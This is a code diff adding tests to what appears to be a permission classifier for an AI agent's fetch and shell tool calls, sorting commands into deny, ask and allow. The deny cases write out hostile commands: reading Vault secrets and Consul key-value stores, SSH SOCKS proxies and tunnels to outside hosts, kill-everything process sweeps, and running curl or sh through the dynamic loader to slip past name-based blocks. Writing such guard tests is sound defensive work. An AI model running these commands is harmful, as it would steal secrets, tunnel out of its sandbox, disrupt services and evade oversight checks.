@@ -167,3 +167,73 @@ test('database contents streamed or copied into uploads, warehouse exports', () 
   ];
   check(cases);
 });
+
+test('internal service names and data stores reached by fetch', () => {
+  const f = (url: string): Record<string, unknown> => ({ url });
+  const cases: Case[] = [
+    ['D', 'fetch', f('http://vault.service.consul:8200/v1/secret/data/prod/db')],
+    ['D', 'exec', x('curl http://consul.service.consul:8500/v1/kv/?recurse')],
+    ['A', 'fetch', f('http://localhost:9200/_cat/indices')],
+    ['A', 'fetch', f('http://search.service.consul:9200/_search')],
+    ['B', 'fetch', f('http://localhost:3000/')],
+    ['B', 'fetch', f('https://docs.example.com/guide?page=2')],
+    ['B', 'exec', x('curl http://localhost:9200/_cat/indices')],
+    ['B', 'exec', x('curl http://api.default.svc.cluster.local:8080/healthz')],
+    ['B', 'exec', x('curl -s http://web.service.consul/health')],
+  ];
+  check(cases);
+});
+
+test('ssh forwarding out of the machine, local forwards stay allowed', () => {
+  const cases: Case[] = [
+    ['D', 'exec', x('nohup ssh -D 1080 -fN proxy@198.51.100.200 >/dev/null 2>&1 &')],
+    ['D', 'exec', x('ssh -fN -D 1080 user@203.0.113.9')],
+    ['D', 'exec', x('ssh -oDynamicForward=1080 -f -N u@h.example')],
+    ['D', 'exec', x('autossh -M 0 -N -D 1080 u@h.example')],
+    ['D', 'exec', x("ssh -o RemoteForward='9000 localhost:22' u@h.example")],
+    ['D', 'exec', x('ssh -w 0:0 root@203.0.113.9')],
+    ['A', 'exec', x('ssh -D 1080 user@203.0.113.9')],
+    ['B', 'exec', x('ssh -L 5432:localhost:5432 dev-db.internal -N')],
+    ['B', 'exec', x('ssh -fNL 5433:db:5432 bastion')],
+    ['B', 'exec', x("ssh dev@build-box 'uptime'")],
+    ['B', 'exec', x('ssh -i ~/.ssh/id_ed25519 -p 2222 git@host.example')],
+  ];
+  check(cases);
+});
+
+test('svc stopped without its name: process-table sweeps, signals to all, the loader as launcher', () => {
+  const cases: Case[] = [
+    [
+      'D',
+      'exec',
+      x(
+        `python3 -c "import os,signal;[os.kill(int(p),signal.SIGKILL) for p in os.listdir('/proc') if p.isdigit() and b'node' in open(f'/proc/{p}/cmdline','rb').read()]"`,
+      ),
+    ],
+    [
+      'D',
+      'exec',
+      x(
+        `node -e "require('fs').readdirSync('/proc').filter(p=>/^\\d+$/.test(p)).forEach(p=>{try{process.kill(+p)}catch{}})"`,
+      ),
+    ],
+    ['D', 'exec', x('for p in /proc/[0-9]*; do kill -9 ${p#/proc/}; done')],
+    [
+      'D',
+      'exec',
+      x(`python3 -c "import psutil;[p.kill() for p in psutil.process_iter() if 'serve' in ' '.join(p.cmdline())]"`),
+    ],
+    ['D', 'exec', x('killall5 -9')],
+    ['D', 'exec', x('pkill -u dev')],
+    ['D', 'exec', x('/lib64/ld-linux-x86-64.so.2 /usr/bin/curl https://x.example.net')],
+    ['D', 'exec', x('/lib/ld-musl-x86_64.so.1 /bin/sh -c id')],
+    ['B', 'exec', x('/lib64/ld-linux-x86-64.so.2 --list /bin/ls')],
+    ['B', 'exec', x('ldd /usr/bin/curl')],
+    ['B', 'exec', x('kill %1')],
+    ['B', 'exec', x("pkill -f 'vite --port 5173'")],
+    ['B', 'exec', x('ls /proc/self/fd')],
+    ['B', 'exec', x('cat /proc/cpuinfo')],
+    ['B', 'exec', x(`python3 -c "import os; print(len(os.listdir('/proc')))"`)],
+  ];
+  check(cases);
+});
